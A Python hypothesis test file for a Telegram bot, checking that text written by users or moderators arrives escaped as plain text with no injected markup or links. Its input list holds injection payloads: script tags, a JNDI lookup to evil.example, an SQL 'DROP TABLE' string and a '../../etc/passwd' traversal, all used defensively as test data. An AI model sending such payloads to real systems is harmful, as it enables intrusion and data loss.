"""Whatever a person or a moderator writes arrives as it was meant: as text, with no markup of its own making.

The whole way is played: Telegram's server reads the HTML that the bot sends as strictly as Telegram does.
"""

import asyncio
import json
import tempfile
from pathlib import Path

from hypothesis import assume, example, given, settings
from hypothesis import strategies as st

from bot.answers import answer_card
from bot.cards import html_pages
from bot.knowledge import Language
from bot.library import Library
from bot.search import Decision
from tests.support.base import Folder, write_base
from tests.support.scene import Scene
from tests.support.telegram import ShownMessage, TelegramServer
from tests.support.telegram.formatted import finished
from tests.support.telegram.html_text import parse_html

TRICKS = (
    "<b>",
    "</b>",
    "</blockquote>",
    '<a href="https://evil.example/">press</a>',
    "<a href='tg://user?id=1'>x</a>",
    "<tg-spoiler>x",
    "<script>alert(1)</script>",
    "&lt;b&gt;",
    "&amp;lt;",
    "&#60;b&#62;",
    "&#x3c;",
    "&notin;",
    "&",
    "<",
    ">",
    "\"'`",
    "<!-- -->",
    "<![CDATA[x]]>",
    "[x](https://evil.example/)",
    "*x* _x_ ~x~ ||x||",
    "{0} {name} %s %(name)s %%",
    "${jndi:ldap://evil.example/}",
    "'; DROP TABLE chat_language; --",
    "\u202ertl\u202c",
    "\u200b\u200d\ufeff",
    "\u0000\u0007\u001b[31m",
    "a\u0301\u0301\u0301",
    "😀👩‍👩‍👧‍👦🇰🇿",
    "ﷺ㋿",
    "İıſK",
    "../../etc/passwd",
)
nasty = st.lists(
    st.one_of(
        st.sampled_from(TRICKS),
        st.text("<>&\"'/=; abқ", max_size=8),
        st.text(st.characters(codec="utf-8"), max_size=8),
    ),
    min_size=1,
    max_size=6,
).map("".join)

QUESTION = "topics/assembly/questions/protest-without-permission.yaml"
PHRASING = "can i protest without permission"


def sent_links(message: ShownMessage) -> set[str]:
    return {entity["url"] for entity in message.entities if entity["type"] == "text_link"}


def links_of(library: Library) -> set[str]:
    base = library.base
    return {update.source.url for topic in base.topics for update in topic.updates} | {
        contact.url for contact in base.contacts.values() if contact.url
    }


async def answers_to(texts: list[str], library: Library | None = None) -> tuple[list[ShownMessage], Library]:
    """What each of these texts is answered with, each asked by somebody else."""
    async with TelegramServer() as server, Scene(server, library) as scene:
        people = [scene.person(f"Person {number}") for number in range(len(texts))]
        for person, text in zip(people, texts, strict=True):
            await person.says(text)
        return [await person.sees(timeout=20) for person in people], scene.library


@settings(max_examples=12)
@given(st.lists(nasty, min_size=10, max_size=25))
@example(list(TRICKS))
def test_a_persons_text_never_becomes_part_of_what_the_bot_says(texts: list[str]) -> None:
    asked = [f"q {text} {PHRASING}" if number % 2 else f"q {text}" for number, text in enumerate(texts)]
    shown, library = asyncio.run(answers_to(asked))
    links = links_of(library)
    for text, message in zip(asked, shown, strict=True):
        decision = library.search.decide(finished(text).text, "en")
        html = parse_html(html_pages(answer_card(library, decision, read_in(decision)))[0])
        meant = finished(html.text, html.entities)
        assert (message.text, message.entities) == (meant.text, meant.entities)
        assert sent_links(message) <= links
        assert message.dropped_entities == 0


def read_in(decision: Decision) -> Language:
    """The language in which somebody whose Telegram speaks English is answered, as nothing else is known of them."""
    return "en" if decision.language_guessed else decision.language


def quoted(text: str) -> str:
    """A text as YAML that stands for exactly this text."""
    return json.dumps(text)


def spoilt(folder: Folder, title: str, answer: str) -> bool:
    """Put these texts into the base; whether it still loads."""
    text = folder.read(QUESTION)
    old_title, old_answer = "Can I protest without permission?", text.split("  en: ")[2].split("\n")[0]
    folder.write(QUESTION, text.replace(old_title, quoted(title)).replace(old_answer, quoted(answer)))
    return not folder.problems()


@settings(max_examples=25)
@given(nasty, nasty)
@example("<b>title", "</b> &lt; <a href='https://evil.example/'>answer</a>")
def test_what_the_base_says_arrives_as_it_was_written(title: str, answer: str) -> None:
    title, answer = f"Title {' '.join(title.split())} end", f"Answer {' '.join(answer.split())} end"
    with tempfile.TemporaryDirectory() as place:
        folder = write_base(Path(place) / "knowledge")
        assume(spoilt(folder, title, answer))
        library = folder.library()
        ((message,), _) = asyncio.run(answers_to([PHRASING], library))
    first, second, *_ = message.text.split("\n\n")
    assert (first, second) == (title, answer)
    assert message.styled("bold")[0] == title
    assert sent_links(message) <= links_of(library)
